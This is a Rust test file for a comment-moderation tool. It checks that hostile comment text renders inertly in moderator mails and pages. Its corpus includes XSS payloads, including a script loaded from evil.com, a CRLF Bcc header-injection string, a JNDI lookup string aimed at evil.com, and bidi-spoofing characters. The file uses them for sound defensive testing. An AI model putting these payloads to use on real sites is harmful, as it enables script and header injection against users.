//! Hostile words in every place a stranger's words can stand, in every mail and page; and sizes that nobody should send.

use super::samples::{self, Sample};
use super::*;
use crate::comment::{Limits, Submission};
use crate::decision::Objection;
use crate::dice::Dice;
use crate::id::{CommentId, SiteId};
use crate::rules::Effect;

const URL: &str = "https://mod.blog.example/d/7Kq";

fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = [
        "Ana\r\nBcc: all@evil.com\r\n\r\n<script>alert(1)</script>",
        "</td></tr></table></textarea></title></style><script src=//evil.com/x.js></script>",
        "\"><img src=x onerror=alert(1)><a href=\"http://evil.com\">click</a>",
        "' onmouseover='alert(1)' x='",
        "javascript:alert(1) data:text/html,<b>x vbscript:x mailto:ana@evil.com?bcc=x tel:+123",
        "\u{202e}moc.live\u{202c} \u{2066}a\u{2069} \u{202a}b \u{200f}c \u{61c}d",
        "e\u{200b}vil\u{2060}.\u{feff}com \u{ad}\u{2800}\u{3164}\u{e0041}",
        "nul\u{0} esc\u{1b}[31m bell\u{7} c1\u{9b} del\u{7f} vt\u{b} nel\u{85} sep\u{2028}\u{2029}",
        "HTTPS://EVIL.COM/a?b=c#d hTTp://evil.com:80 //evil.com www.evil.com evil.com. ftp://evil.com",
        "x@evil.com, (evil.com) [evil.com](http://evil.com) <http://evil.com> [url=http://evil.com]x[/url]",
        "http://1.2.3.4/ 1.2.3.4 http://[::1]/ http://user:pass@evil.com/ evil。com evil．com",
        "{{ site }} {% for x in y %} ${jndi:ldap://evil.com/a} &lt;script&gt; &#60;script&#62;",
        "z\u{301}\u{302}\u{303}\u{304}algo \u{fe0f}\u{200d} \u{fffe}\u{fdd0}\u{e000}",
    ]
    .map(str::to_owned)
    .to_vec();
    corpus.push("x".repeat(10_000));
    corpus.push("evil.com/".repeat(2_000));
    corpus.push("\u{200b}".repeat(3_000));
    corpus.push("<".repeat(30_000));
    corpus
}

/// The same words as name, address, website, title, body, reason and evidence.
fn sample(words: &str) -> Sample {
    let submission = Submission {
        name: Some(words.into()),
        email: Some(words.into()),
        url: Some(words.into()),
        page_title: Some(words.into()),
        body: Some(words.into()),
        ..Submission::default()
    };
    let limits = Limits { body_bytes_max: 1 << 20, field_bytes_max: 1 << 20, excerpt_bytes_max: 1 << 20 };
    let comment =
        Comment::parse(submission, CommentId::new(samples::now(), &Dice::seeded(1)), SiteId::new("s"), samples::now(), limits).unwrap();
    let quoted = format!("“{words}”");
    let decision =
        samples::decision(Some(0.0), &[("x", Effect::Hold, words, 0.0)], &[(&quoted, 1.0), (words, -1.0), ("“evil”", 0.9), ("“com”", 0.8)]);
    Sample { comment, decision, history: History::default() }
}

fn digest<'a>(items: &'a [Item<'a>], site_name: &'a str) -> DigestView<'a> {
    DigestView {
        occasion: Occasion::New,
        site_name,
        moderator_name: "Ana",
        items,
        items_max: 25,
        behind: 0,
        excerpt_chars_max: 280,
        handled: 41,
        review_url: URL,
        pause_url: None,
        expires_at: samples::expiry(),
        now: samples::now(),
    }
}

/// A held comment that stands for two more, a spot check and a rejection near the line, all of the same words.
fn of_every_section<'a>(item: &Item<'a>) -> Vec<Item<'a>> {
    let numbered = |number, copy_of| Item { number, copy_of, ..*item };
    let check = Item { is_check: true, ..numbered(4, None) };
    let rejected = Item { status: Status::Rejected, ..numbered(5, None) };
    vec![numbered(1, None), numbered(2, Some(1)), numbered(3, Some(1)), check, rejected]
}

fn action<'a>(items: &'a [Item<'a>], focus: Option<usize>, notice: Option<Notice<'a>>) -> ActionPage<'a> {
    ActionPage {
        site_name: "Slow Kettle",
        moderator_name: "Ana",
        path: "/d/7Kq",
        items,
        focus,
        total: 3,
        nonce: &|number| format!("nonce-{number}"),
        notice,
        publish_max: 10,
        expires_at: samples::expiry(),
        now: samples::now(),
    }
}

fn mailbox(name: &str, paused_at: Option<Timestamp>, notice: Option<MailboxNotice>) -> String {
    let (path, nonce) = ("/u/7Kq", "nonce");
    MailboxPage { moderator_name: name, site_names: &[name, "Slow Kettle"], path, paused_at, is_last: true, nonce, notice }.render()
}

fn demo<'a>(replies: &'a [Reply<'a>], outcome: Option<Outcome>, form: FormValues<'a>) -> String {
    DemoPage { replies, outcome, form, mail_place: "data/mail" }.render()
}

/// Whatever is shown: no control characters, and none that turn the text round.
fn check_text(shown: &str) {
    let bad =
        |c: char| c != '\n' && c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}' | '\u{2067}' | '\u{200e}' | '\u{200f}');
    assert_eq!(shown.chars().find(|c| bad(*c)), None);
    assert_eq!(shown.matches('\u{2068}').count(), shown.matches('\u{2069}').count());
}

/// No address that a mail program would make a link of, but our own.
fn check_dead(shown: &str) {
    let shown = shown.replace(URL, "").to_lowercase();
    for live in ["evil.com", "evil。com", "evil．com", "http:", "https:", "javascript:", "data:", "mailto:", "tel:", "ftp:", "1.2.3.4"] {
        assert!(!shown.contains(live), "{live} in {shown}");
    }
}

/// Only our own tags, in pairs, and only our own targets.
fn check_html(html: &str) {
    check_text(html);
    for tag in html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default()) {
        let outside_quotes = tag.split('"').step_by(2).collect::<String>();
        assert!(!["script", "img", "iframe"].iter().any(|name| tag.starts_with(name)), "<{tag}>");
        assert!(!["src=", " on", "'"].iter().any(|part| outside_quotes.contains(part)), "<{tag}>");
    }
    for (open, close) in
        [("<td", "</td>"), ("<p", "</p>"), ("<textarea", "</textarea>"), ("<bdi", "</bdi>"), ("<mark", "</mark>"), ("<title>", "</title>")]
    {
        let opened: usize = [">", " ", "\n"].iter().map(|end| html.matches(&format!("{}{end}", open.trim_end_matches('>'))).count()).sum();
        assert_eq!(opened, html.matches(close).count(), "{open}");
    }
    assert_eq!(html.matches("<h1").count(), 1);
    for target in html.split("href=\"").skip(1) {
        let ours =
            ["/assets/hamlet.css\"", "/d/7Kq\"", "/d/7Kq?i=", "/demo/\"", "/desk/", "#", URL].iter().any(|own| target.starts_with(own));
        assert!(ours, "{}", target.chars().take(60).collect::<String>());
    }
}

fn check_page(html: &str) {
    check_html(html);
    assert!(!html.contains("style=") && !html.contains("<style"), "inline style");
}

#[test]
fn hostile_words_stay_words() {
    for words in corpus() {
        let samples = [sample(&words)];
        let items = samples::items(&samples);
        let mail = digest(&items, &words).render();
        assert!(!mail.subject.contains(['\r', '\n', '\0']) && mail.subject.chars().count() < 140, "{:?}", mail.subject);
        check_text(&mail.text);
        check_html(&mail.html);
        let mail = digest(&items, "Slow Kettle").render();
        check_dead(&mail.text);
        check_dead(mail.html.split("</style>").last().unwrap());
        let items = of_every_section(&items[0]);
        for occasion in [Occasion::New, Occasion::Flood, Occasion::Reminder, Occasion::Handover, Occasion::Weekly] {
            let view = DigestView { occasion, behind: 7, excerpt_chars_max: 0, ..digest(&items, "Slow Kettle") };
            let mail = view.render();
            check_html(&mail.html);
            check_text(&mail.text);
            check_dead(&mail.text);
            check_dead(mail.html.split("</style>").last().unwrap());
        }
        let sentences = [words.clone()];
        let letter =
            LetterView { site_name: &words, subject: "mail comes back", sentences: &sentences, link: Some(("Look", URL)) }.render();
        check_html(&letter.html);
        assert!(!letter.subject.contains(['\r', '\n', '\0']));
        for notice in [None, Some(MailboxNotice::Paused), Some(MailboxNotice::TooOld)] {
            check_page(&mailbox(&words, None, notice));
            check_page(&mailbox(&words, Some(samples::now()), notice));
        }
        for (notice, resume_path) in [(None, None), (Some(ConfirmNotice::TooOld), Some("/desk/u")), (Some(ConfirmNotice::Confirmed), None)]
        {
            let (moderator_name, address, path) = (words.as_str(), words.as_str(), "/confirm/7Kq");
            let page = ConfirmPage { moderator_name, address, path, nonce: "nonce", notice, resume_path }.render();
            check_page(&page);
        }
        for focus in [None, Some(1), Some(2), Some(4)] {
            let page = action(&items, focus, None).render();
            check_page(&page);
            check_dead(&page);
        }
        let report = super::report::samples::page(&words);
        check_html(&report);
        check_dead(report.split("</style>").last().unwrap());
        let replies = [Reply { name: &words, at: &words, body: &words }];
        check_page(&demo(
            &replies,
            Some(Outcome::Unavailable),
            FormValues { name: &words, email: &words, url: &words, body: &words, form_token: &words },
        ));
    }
}

const FRAME: Frame<'_> =
    Frame { moderator_name: "Ana", csrf: "proof", tab: Tab::Review, waiting: 3, campaigns: 1, seal: Seal::NotCertified, mails_off: None };

/// The desk's page of one comment, with everything that a stranger's words can stand in.
fn desk(item: Item<'_>, query: &str, (name, by): (&str, &str), is_covered: bool) -> String {
    let comment = item.comment;
    let ruled = Ruled { ruling: Ruling::Spam, by, at: samples::now() };
    let row = Row {
        comment,
        decision: Some(item.decision),
        is_check: false,
        is_current: true,
        alike: 23,
        claimed_by: Some(by),
        is_covered,
        objection: None,
    };
    DeskPage {
        frame: Frame { moderator_name: by, ..FRAME },
        list: List { rows: &[row], waiting: 3, oldest: Some(samples::now()), query, is_cut: true, flood: Some(640), now: samples::now() },
        item: OnDesk {
            item,
            version: 2,
            next: Some("/desk/c/2"),
            previous: Some("/desk/c/0"),
            place: Some((2, 3)),
            site_name: Some("Slow Kettle"),
            past: &[Past { comment, status: Status::Rejected }],
            similar: &[Alike { comment, ruled, like: "same link or contact" }],
            objections: &[DeskSaid { objection: Objection::Report, text: Some(name), at: samples::now() }],
            edits: &[Before { name, body: name, until: samples::now() }],
            group: Some((23, "/desk/campaigns/blog/1")),
            claim: Claim::Other { name: by, until: samples::now() },
            address: Some(name),
            is_covered,
            is_second_look: false,
        },
        notice: Some(DeskNotice::AlreadyDecided(ruled)),
        toast: Some(Toast { ruling: Ruling::Spam, comments: 1, name, batch: "00", csrf: "proof", seconds: 20 }),
        now: samples::now(),
    }
    .render()
}

/// The desk has one script of its own, and nothing else that runs.
fn check_desk(html: &str) {
    assert_eq!(html.matches("<script").count(), 1);
    // A phone shows the list alone, under a heading of its own.
    let html = html.replace("<h1 class=\"vh only\">What waits</h1>", "");
    check_page(&html.replace("<script src=\"/assets/desk.js\" defer></script>", ""));
}

#[test]
fn hostile_words_stay_words_at_the_desk() {
    for words in corpus() {
        let samples = [sample(&words)];
        let item = samples::items(&samples)[0];
        for is_covered in [false, true] {
            let html = desk(item, "", (&words, "Ana"), is_covered);
            check_desk(&html);
            check_dead(&html);
        }
        check_desk(&desk(item, &words, (&words, &words), false));
        let (comment, decision) = (item.comment, item.decision);
        let member = CampaignMember { comment, version: 1 };
        let group = GroupRow { path: "/desk/campaigns/blog/1", first: comment, band: None, size: 23, is_current: true };
        let open = OpenGroup {
            path: "/desk/campaigns/blog/1",
            shared: "one text",
            members: &[member, member],
            size: 23,
            decision: Some(decision),
            next: None,
            publish_max: 10,
        };
        let say = Some(CampaignSay::Missed { taken: 22, missed: 1 });
        let html = CampaignPage { frame: FRAME, groups: &[group], open: Some(open), say, toast: None, now: samples::now() }.render();
        check_desk(&html);
        check_dead(&html);
        let rows = [Automatic { comment, decision, status: Status::Rejected }];
        let audit = AuditPage { frame: FRAME, rows: &rows, which: Which::All, earlier: None, second_looks: (50, 2), now: samples::now() };
        check_desk(&audit.render());
        check_dead(&audit.render());
        check_desk(&RestPage { frame: FRAME, today: &rows, query: &words, searched: Some(20_000), toast: None, undone: 1 }.render());
        check_desk(&RestPage { frame: FRAME, today: &rows, query: "", searched: None, toast: None, undone: 0 }.render());
        check_desk(&super::desk::figures_samples::page(&words, &words));
        check_dead(&super::desk::figures_samples::page(&words, "Slow Kettle"));
        let parts = decision.evidence.clone();
        let explained = DeskExplainPage { frame: FRAME, comment, decision, parts: &parts, notes: std::slice::from_ref(&words) };
        check_desk(&explained.render());
        let acts = [(samples::now(), "logged_in")];
        let account = AccountPage {
            frame: Frame { moderator_name: &words, ..FRAME },
            email: &words,
            role: "moderator",
            sites: &[&words],
            say: AccountSay::PasswordSet,
            acts: &acts,
            now: samples::now(),
        };
        check_desk(&account.render());
        check_page(&LoginPage { say: LoginSay::Wrong, email: &words, next: "/desk/" }.render());
    }
}

#[test]
fn a_covered_comment_is_quoted_nowhere_but_under_its_cover() {
    let jane = [samples::jane()];
    let item = samples::items(&jane)[0];
    let html = desk(item, "", ("Somebody", "Ana"), true);
    let (before, rest) = html.split_once("<details class=\"cover\"").unwrap();
    let (under, after) = rest.split_once("</details>").unwrap();
    assert!(under.contains("mornings forever"));
    assert!(
        !before.contains("Jane D.") && !before.contains("mornings forever") && !after.contains("kitchen looked like"),
        "{before}{after}"
    );
}

#[test]
fn hostile_settings_stay_words() {
    for words in corpus() {
        let jane = [samples::jane()];
        let items = samples::items(&jane);
        let ruled = Ruled { ruling: Ruling::Publish, by: &words, at: samples::now() };
        let page = ActionPage {
            site_name: &words,
            moderator_name: &words,
            notice: Some(Notice::AlreadyDecided(ruled)),
            ..action(&items, None, None)
        };
        check_page(&page.render());
        check_page(&NoticePage { site_name: Some(&words), refusal: Refusal::UnknownLink }.render());
    }
}

/// As an encoder would count it, in the cheaper of the two ways.
fn encoded(text: &str) -> usize {
    let text = text.replace('\n', "\r\n");
    let quoted: usize = text.bytes().map(|b| if b.is_ascii() && b != b'=' { 1 } else { 3 }).sum();
    (quoted + quoted / 72 * 3).min(text.len() / 57 * 78 + 78)
}

#[test]
fn a_mail_of_any_size_fits() {
    let words = [
        "plain words and more of them ",
        "Хорошие кофейные зёрна ",
        "咖啡的味道真的很好",
        "☕🔥👨\u{200d}👩\u{200d}👧",
        "<&\"'>",
        "\u{200b}\u{0}",
        "сайт.рф http://a.com ",
    ];
    for words in words {
        let one = sample(&words.repeat(300));
        for number in [1, 25, 1_000] {
            let item = samples::items(std::slice::from_ref(&one))[0];
            let items: Vec<Item<'_>> = (1..=number).map(|number| Item { number, ..item }).collect();
            let mail = digest(&items, "Slow Kettle").render();
            let shown = mail.html.matches("<h2").count();
            assert!(mail.html.len() <= 70_000, "{words}: {} bytes", mail.html.len());
            assert!(encoded(&mail.html) + encoded(&mail.text) <= 90_000, "{words} x {number}");
            assert!(shown >= 1 && (number == 1 || shown >= 3), "{words}: {shown} shown");
            assert_eq!(mail.text.matches("   Review: ").count(), shown);
            assert_eq!(mail.html.contains("more on the page"), shown < number);
            assert!(mail.html.contains(&format!("{} comment", words::thousands(number))));
        }
    }
}

#[test]
fn twenty_five_ordinary_comments_fit_into_one_mail() {
    let samples: Vec<Sample> = (0..25).map(|_| samples::omar()).collect();
    let mail = digest(&samples::items(&samples), "Slow Kettle").render();
    assert!(!mail.html.contains("more on the page"), "{}", mail.html.matches("<h2").count());
}

#[test]
fn subjects_count_and_say_no_more() {
    let all = samples::three();
    let items = samples::items(&all);
    for (items, behind, subject) in [
        (&items[..], 0, "[Slow Kettle] 3 comments to review (1 likely spam, oldest 5 h)"),
        (&items[..], 12, "[Slow Kettle] 15 comments to review (1 likely spam, oldest 5 h)"),
        (&items[2..], 0, "[Slow Kettle] 1 comment to review (oldest 50 min)"),
        (&of_every_section(&items[0])[..4], 0, "[Slow Kettle] 4 comments to review (3 likely spam, 1 spot check, oldest 5 h)"),
    ] {
        assert_eq!(DigestView { behind, ..digest(items, "Slow Kettle") }.render().subject, subject);
    }
}

#[test]
fn the_mail_as_people_get_it() {
    let all = samples::three();
    let items = samples::items(&all);
    let mail = DigestView { pause_url: Some("https://mod.blog.example/u/7Kq"), ..digest(&items, "Slow Kettle") }.render();
    insta::assert_snapshot!("digest_text", mail.text);
    insta::assert_snapshot!("digest_html", mail.html);
    check_text(&mail.text);
    assert!(mail.text.lines().all(|line| line.chars().count() <= 78));
    let one = digest(&items[1..2], "Slow Kettle").render();
    assert!(one.html.contains("1 comment waits for you") && one.html.contains("Review it on one page") && !one.html.contains("Pause"));
    assert!(DigestView { items_max: 1, ..digest(&items, "Slow Kettle") }.render().text.contains("2 more on the page.\nReview all three: "));
}

#[test]
fn a_mail_quotes_as_much_as_the_moderator_wants() {
    let jane = [samples::jane()];
    let items = samples::items(&jane);
    let quoted = |excerpt_chars_max| DigestView { excerpt_chars_max, ..digest(&items, "Slow Kettle") }.render();
    let (full, short, none) = (quoted(280), quoted(80), quoted(0));
    assert!(full.text.contains("a sieve") && full.html.contains("a sieve"));
    assert!(short.text.contains("hxxps://cheap-loans[.]example") && !short.text.contains("a sieve"), "{}", short.text);
    for part in [&none.text, &none.html] {
        assert!(part.contains("Jane D.") && !part.contains("hxxps") && !part.contains("   | ") && !part.contains("class=\"q\""), "{part}");
    }
}

#[test]
fn a_flood_and_a_reminder_say_what_they_are() {
    let all = samples::three();
    let items = samples::items(&all);
    let flood = DigestView { occasion: Occasion::Flood, items_max: 2, behind: 1_040, ..digest(&items, "Slow Kettle") }.render();
    assert_eq!(flood.subject, "[Slow Kettle] 1,043 comments at once to review (1 likely spam, oldest 5 h)");
    for words in ["1,043 comments wait for you", "the next comes tomorrow", "1 more on the page, and 1,040 more once these are decided."] {
        let text = flood.text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(flood.html.contains(words) && text.contains(words), "{words}: {text}");
    }
    let of = |occasion, items| {
        DigestView { occasion, pause_url: Some("https://mod.blog.example/u/7Kq"), ..digest(items, "Slow Kettle") }.render()
    };
    let reminder = of(Occasion::Reminder, &items);
    assert_eq!(reminder.subject, "[Slow Kettle] 3 comments still to review (1 likely spam, oldest 5 h)");
    assert!(reminder.html.contains("3 comments still wait for you"));
    let handover = of(Occasion::Handover, &items[..1]);
    assert_eq!(handover.subject, "[Slow Kettle] 1 comment left for you to review (1 likely spam, oldest 5 h)");
    assert!(
        handover.text.contains("1 comment was left for you.") && handover.text.contains("Nobody else has decided"),
        "{}",
        handover.text
    );
    insta::assert_snapshot!("digest_flood", flood.html);
    insta::assert_snapshot!("digest_reminder", reminder.html);
    insta::assert_snapshot!("digest_handover", of(Occasion::Handover, &items).html);
}

#[test]
fn a_week_s_rejections_are_told_apart_from_what_waits() {
    let all = samples::three();
    let items: Vec<Item<'_>> = samples::items(&all)[..2].iter().map(|item| Item { status: Status::Rejected, ..*item }).collect();
    let view =
        DigestView { occasion: Occasion::Weekly, pause_url: Some("https://mod.blog.example/u/7Kq"), ..digest(&items, "Slow Kettle") };
    let mail = view.render();
    assert_eq!(mail.subject, "[Slow Kettle] 2 comments rejected near the line");
    assert!(mail.html.contains("Why rejected:") && !mail.html.contains("Why held:"));
    insta::assert_snapshot!("digest_weekly", mail.html);
    insta::assert_snapshot!("digest_weekly_text", mail.text);
}

/// Jane's and Omar's wait, Salma's is a spot check, and of Jane's there are two near-copies.
fn with_copies(all: &[Sample]) -> Vec<Item<'_>> {
    let mut items = samples::items(all);
    (items[2].is_check, items[3].copy_of, items[4].copy_of) = (true, Some(1), Some(1));
    items
}

fn five() -> Vec<Sample> {
    let jane = samples::jane();
    let copy = |name: &str, minutes| {
        let body = jane.comment.body.replace("cheap-loans", &format!("cheap-loans-{minutes}"));
        let comment = samples::comment(name, "jane@gmail.com", "Release 2.0", &body, minutes);
        Sample { comment, ..samples::jane() }
    };
    vec![samples::jane(), samples::omar(), samples::salma(), copy("Jane E.", 120), copy("Joan", 90)]
}

#[test]
fn near_copies_are_one_item_and_spot_checks_a_section() {
    let all = five();
    let items = with_copies(&all);
    let mail = digest(&items, "Slow Kettle").render();
    for words in ["5 comments wait for you", "2 more like it, by 3 names on 2 pages", "Decided automatically, a second look"] {
        assert!(mail.html.contains(words) && mail.text.contains(words), "{words}: {}", mail.text);
    }
    assert!(mail.html.contains("Review no. 1, 3 alike") && mail.text.contains("Review all 3: https://mod.blog.example/d/7Kq?i=1"));
    // Of a check nobody is told what was decided, nor why.
    let check = mail.text.split("second look").nth(1).unwrap();
    assert!(!check.contains("Why") && !mail.html.split("second look").nth(1).unwrap().contains("Why"), "{check}");
    assert_eq!((mail.html.matches("<h3").count(), mail.html.matches("<h2").count()), (3, 2));
    insta::assert_snapshot!("digest_sections", mail.html);
    insta::assert_snapshot!("digest_sections_text", mail.text);
    let alone = digest(&items[2..3], "Slow Kettle").render();
    assert!(alone.html.contains("Decided automatically") && !alone.html.contains("Waiting for a ruling"), "{}", alone.html);
}

#[test]
fn near_copies_are_ruled_on_by_one_form_as_far_as_they_stay_ticked() {
    let all = five();
    let items = with_copies(&all);
    let page = ActionPage { total: 5, ..action(&items, None, None) }.render();
    check_page(&page);
    assert_eq!((page.matches("<form").count(), page.matches("name=\"like\"").count()), (3, 2));
    assert!(page.contains("value=\"4.nonce-4\" checked") && page.contains("value=\"5.nonce-5\" checked"));
    assert!(page.contains("5 comments to review") && page.contains("hxxps://cheap-loans-120[.]example"), "what differs: {page}");
    insta::assert_snapshot!("action_sections", page);
    let copy = action(&items, Some(4), None).render();
    assert_eq!((copy.matches("<form").count(), copy.matches("name=\"like\"").count()), (1, 0), "a copy can be looked at for itself");
    let crowd = ActionPage { publish_max: 2, ..action(&items, Some(1), None) }.render();
    assert!(crowd.contains("href=\"/d/7Kq?each=1\"") && !crowd.contains("value=\"publish\""), "{crowd}");
    let rejected = [Item { status: Status::Rejected, ..items[0] }];
    assert!(action(&rejected, Some(1), None).render().contains("Rejected by Hamlet, near the line"));
}

#[test]
fn the_page_that_turns_mails_off_as_people_get_it() {
    insta::assert_snapshot!("mailbox_on", mailbox("Ana", None, None));
    insta::assert_snapshot!("mailbox_off", mailbox("Ana", Some(samples::now()), Some(MailboxNotice::Paused)));
    let confirm = |notice| {
        let (moderator_name, address, path) = ("Ana", "ana@moderators.example", "/confirm/7Kq");
        ConfirmPage { moderator_name, address, path, nonce: "nonce", notice, resume_path: None }.render()
    };
    insta::assert_snapshot!("confirm", confirm(None));
    insta::assert_snapshot!("confirmed", confirm(Some(ConfirmNotice::Confirmed)));
    let sentences =
        ["Mail to Bob came back twice, so none is sent there any more.".to_owned(), "Until that is mended, you are one fewer.".to_owned()];
    let view = LetterView {
        site_name: "Slow Kettle",
        subject: "mail to a moderator comes back",
        sentences: &sentences,
        link: Some(("Look", URL)),
    };
    let letter = view.render();
    assert_eq!(letter.subject, "[Slow Kettle] mail to a moderator comes back");
    assert_eq!(
        letter.text,
        "Mail to Bob came back twice, so none is sent there any more.\n\nUntil that is mended, you are one fewer.\n\nLook: https://mod.blog.example/d/7Kq\n"
    );
    insta::assert_snapshot!("letter", letter.html);
}

#[test]
fn the_page_as_people_get_it() {
    let all = samples::three();
    let mut items = samples::items(&all);
    insta::assert_snapshot!("action_focused", action(&items, Some(1), None).render());
    items[1].ruled = Some(Ruled { ruling: Ruling::Spam, by: "Bob", at: samples::now() });
    let notice = Notice::Decided { ruling: Ruling::Publish, comments: 1, missed: 0, wait_seconds: 20, undo: ("00ff", "nonce") };
    let page = action(&items, None, Some(notice)).render();
    insta::assert_snapshot!("action_all", page);
    assert_eq!((page.matches("<form class=\"ruling").count(), page.matches("2 comments to review").count()), (2, 2));
    assert!(action(&items, Some(9), None).render().contains("2 comments to review"), "an unknown number shows all");
    assert!(action(&items[1..2], None, None).render().contains("Nothing left to review"));
    assert!(!page.contains("jane@gmail.com") && !page.contains("salma@post"));
}

#[test]
fn notices_say_what_happened() {
    let bob = Ruled { ruling: Ruling::Remove, by: "Bob", at: samples::now() };
    let notices = [
        Notice::Decided { ruling: Ruling::Publish, comments: 1, missed: 0, wait_seconds: 20, undo: ("00ff", "nonce") },
        Notice::Decided { ruling: Ruling::Spam, comments: 23, missed: 0, wait_seconds: 20, undo: ("00ff", "nonce") },
        Notice::Decided { ruling: Ruling::Spam, comments: 21, missed: 2, wait_seconds: 20, undo: ("00ff", "nonce") },
        Notice::Decided { ruling: Ruling::Remove, comments: 1, missed: 1, wait_seconds: 20, undo: ("00ff", "nonce") },
        Notice::TooManyToPublish { max: 10 },
        Notice::TakenBack { comments: 0 },
        Notice::TakenBack { comments: 1 },
        Notice::TakenBack { comments: 23 },
        Notice::AlreadyDecided(bob),
        Notice::PageTooOld,
        Notice::EditedSince,
    ];
    let said = |html: String| html.lines().find(|line| line.starts_with("<div class=\"say ")).unwrap_or_default().to_owned();
    let mut all: Vec<String> = notices.map(|notice| said(action(&[], None, Some(notice)).render())).to_vec();
    let refusals = [
        Refusal::Expired { at: samples::expiry() },
        Refusal::UnknownLink,
        Refusal::RefusedOrigin,
        Refusal::NothingLeft,
        Refusal::Unavailable,
    ];
    for refusal in refusals {
        let page = NoticePage { site_name: None, refusal }.render();
        check_page(&page);
        all.push(page.lines().find(|line| line.starts_with("<main")).unwrap_or_default().to_owned());
    }
    insta::assert_snapshot!("notices", all.join("\n"));
}

#[test]
fn a_long_body_is_cut_and_says_so() {
    let long = Sample { comment: samples::comment("A", "a@b.example", "T", &"é".repeat(20_005), 1), ..samples::jane() };
    let page = action(&samples::items(&[long]), Some(1), None).render();
    assert!(page.contains("The comment goes on for 5 more characters."));
    assert_eq!(page.matches('é').count(), 20_000);
}

#[test]
fn the_blog_as_readers_see_it() {
    let replies = [Reply { name: "Jane D.", at: "22 November, 15:00", body: "One.\nTwo.\n\nhttp://evil.com <b>" }];
    insta::assert_snapshot!("demo", demo(&replies, Some(Outcome::Held), FormValues::default()));
    let kept = FormValues { name: "", email: "ana@mail.example", url: "http://a.example", body: "\n<Kept> \"words\"", form_token: "AZ_-9" };
    let page = demo(&[], Some(Outcome::Missing(Field::Name)), kept);
    for part in [
        "Please fill in your name. Nothing was lost.",
        "autocomplete=\"name\" value=\"\" required aria-invalid=\"true\" aria-describedby=\"name-problem\" autofocus>",
        "value=\"ana@mail.example\"",
        "\n\n&#60;Kept&#62; &#34;words&#34;</textarea>",
        ">3 replies</h2>",
    ] {
        assert!(page.contains(part), "{part}");
    }
    assert_eq!(page.matches("aria-invalid").count(), 1);
}
